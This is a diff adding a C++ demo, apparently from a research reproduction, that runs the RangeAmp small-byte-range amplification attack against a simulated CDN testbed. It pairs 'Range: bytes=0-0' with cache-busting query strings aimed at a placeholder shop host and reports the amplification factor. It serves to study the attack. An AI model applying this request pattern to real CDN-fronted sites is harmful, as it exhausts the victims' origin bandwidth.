@@ -1,0 +1,58 @@
+// SBR attack demo: the section IV-B scenario end-to-end.
+//
+// An attacker targets a website hosted behind a vulnerable CDN.  Each
+// crafted request carries "Range: bytes=0-0" and a fresh cache-busting query
+// string; the CDN's Deletion policy pulls the full resource from the origin
+// every time, while the attacker receives a few hundred bytes.
+//
+// Usage: sbr_attack_demo [vendor-index 0..12] [file-size-mb] [requests]
+#include <cstdio>
+#include <cstdlib>
+
+#include "core/rangeamp.h"
+
+using namespace rangeamp;
+
+int main(int argc, char** argv) {
+  const int vendor_index = argc > 1 ? std::atoi(argv[1]) : 5;  // Cloudflare
+  const std::uint64_t size_mb = argc > 2 ? std::strtoull(argv[2], nullptr, 10) : 10;
+  const int requests = argc > 3 ? std::atoi(argv[3]) : 20;
+  if (vendor_index < 0 || vendor_index >= 13) {
+    std::fprintf(stderr, "vendor-index must be 0..12\n");
+    return 2;
+  }
+  const cdn::Vendor vendor = cdn::kAllVendors[static_cast<std::size_t>(vendor_index)];
+
+  std::printf("SBR attack: %d requests against %s, %llu MB target\n\n", requests,
+              std::string{cdn::vendor_name(vendor)}.c_str(),
+              static_cast<unsigned long long>(size_mb));
+
+  core::SingleCdnTestbed bed(cdn::make_profile(vendor));
+  bed.origin().resources().add_synthetic("/video/launch-teaser.mp4",
+                                         size_mb << 20, "video/mp4");
+
+  const core::SbrPlan plan = core::sbr_plan(vendor, size_mb << 20);
+  std::printf("Exploited range case: %s (%d send(s) per unit)\n\n",
+              plan.description.c_str(), plan.sends);
+
+  for (int i = 0; i < requests; ++i) {
+    // Fresh query string => guaranteed cache miss (section II-A).
+    auto request = http::make_get(
+        "victim-shop.example.com",
+        "/video/launch-teaser.mp4?r=" + std::to_string(1000 + i));
+    request.headers.add("Range", plan.range.to_string());
+    for (int s = 0; s < plan.sends; ++s) bed.send(request);
+  }
+
+  const auto attacker = bed.client_traffic().response_bytes();
+  const auto origin = bed.origin_traffic().response_bytes();
+  std::printf("attacker received : %12llu B (%.1f KB)\n",
+              static_cast<unsigned long long>(attacker), attacker / 1024.0);
+  std::printf("origin sent       : %12llu B (%.1f MB)\n",
+              static_cast<unsigned long long>(origin), origin / 1048576.0);
+  std::printf("amplification     : %.0fx\n",
+              static_cast<double>(origin) / static_cast<double>(attacker));
+  std::printf("\nThe CDN absorbed none of this: every request was a cache miss,\n"
+              "and the origin's outgoing bandwidth paid for all of it.\n");
+  return 0;
+}
